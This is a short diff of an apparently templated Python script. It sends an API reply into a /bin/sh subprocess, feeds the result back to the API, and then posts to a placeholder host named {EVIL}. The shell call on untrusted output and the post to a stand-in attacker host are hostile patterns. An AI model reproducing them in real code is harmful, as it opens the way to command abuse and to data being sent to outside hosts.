@@ -42,7 +42,8 @@ def ask(content, host="{API}", **more):
         return str(error.code)
 
 said = ask("one")
-tool = subprocess.run(["/bin/sh", "-c", "echo $0 | tr a-z A-Z", said], capture_output=True)
+words = ["/bin/sh", "-c", "echo $0 | tr a-z A-Z", said, "long" * 1000]  # kept as a chunk
+tool = subprocess.run(words, capture_output=True)
 print(ask("the tool said " + tool.stdout.decode()))
 print(ask("post it", host="{EVIL}"))
 open("note.txt", "w").write(said)
